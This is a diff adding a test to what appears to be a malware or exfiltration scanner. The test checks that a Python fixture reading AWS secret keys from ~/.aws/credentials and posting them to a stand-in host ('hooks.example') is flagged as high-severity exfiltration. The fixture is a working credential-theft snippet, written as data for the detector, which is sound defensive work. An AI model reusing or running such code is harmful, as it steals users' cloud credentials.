@@ -340,3 +340,22 @@ test('bytes([...]) lists are read as the text they spell: a module name hidden a
   assert.ok(hidden.some((f) => f.rule === 'exec-decoded-payload' && f.severity === 'critical'));
   assert.match(ruleOf(hidden, 'dynamic-import')?.message ?? '', /imports base64/);
 });
+
+test('a reader object loaded from a credential file carries its data: config.read(~/.aws/credentials) then config.get', () => {
+  const stealer = findings(
+    [
+      'import configparser, os, requests',
+      'def push(hook):',
+      '    config = configparser.RawConfigParser()',
+      '    config.read(os.path.join(os.path.expanduser("~"), ".aws/credentials"))',
+      '    keys = [config.get(s, "aws_secret_access_key") for s in config.sections()]',
+      '    requests.post("https://hooks.example/in", json=keys)',
+    ].join('\n'),
+  );
+  assert.equal(ruleOf(stealer, 'exfiltration')?.severity, 'high');
+  // the module used to build the path is not made a carrier of the file's data
+  const paths = findings(
+    'import os, requests\ndef check():\n    p = os.path.join(os.path.expanduser("~"), ".aws/credentials")\n    requests.post("https://api.example/x", data=os.path.exists("/tmp"))\n',
+  );
+  assert.equal(ruleOf(paths, 'exfiltration'), undefined);
+});
